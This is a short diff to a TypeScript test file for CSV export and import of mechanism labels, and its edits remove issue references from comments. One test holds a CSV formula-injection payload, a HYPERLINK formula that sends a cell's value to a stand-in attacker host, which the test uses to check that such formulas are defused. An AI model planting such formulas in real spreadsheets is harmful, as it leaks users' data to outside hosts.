@@ -1,5 +1,5 @@
 /**
- * Mechanism labels as CSV and the five mechanism commands (issue 7, parts 7 and 8): human labels
+ * Mechanism labels as CSV and the five mechanism commands (parts 7 and 8): human labels
  * round-trip through CSV between workspaces, a blind sheet lists what an annotator has left, a
  * bad file is refused whole with every bad row by line, and the commands drive it all.
  */
@@ -77,7 +77,7 @@ describe('labels as CSV and the mechanism commands', () => {
     expect(labelSheetCsv(a.store, studyId, 'second').trim().split('\r\n')).toHaveLength(1);
   });
 
-  it('writes a formula rationale defused and reads it back as written (issue 10 #4)', () => {
+  it('writes a formula rationale defused and reads it back as written', () => {
     const [first] = findFlippedReps(a.store, studyId);
     const formula = '=HYPERLINK("http://evil.example/?"&A1,"open")';
     const cell = `"${formula.replace(/"/g, '""')}"`;
